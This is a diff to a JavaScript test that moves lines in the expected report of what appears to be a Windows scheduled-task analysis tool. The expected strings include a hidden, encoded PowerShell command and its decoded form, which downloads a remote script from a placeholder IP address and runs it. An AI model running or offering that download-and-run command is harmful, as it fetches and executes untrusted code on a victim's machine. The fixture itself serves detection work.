@@ -82,10 +82,10 @@ test("the page tells all that is known", () => {
     `-- ${name} ${"-".repeat(WIDTH - name.length - 4)}`;
   expect(linesOf()).toEqual([
     rule("Runs"),
-    "    runs    powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
-    "    in      C:\\Windows\\Temp",
     "    decoded: powershell-encoded",
     "      IEX (iwr http://203.0.113.9/a.ps1)",
+    "    runs    powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
+    "    in      C:\\Windows\\Temp",
     "    not opened: depth-limit",
     "    the author is a placeholder: $(@%systemroot%\\x.dll,-1)",
     "    by the task event 4698",
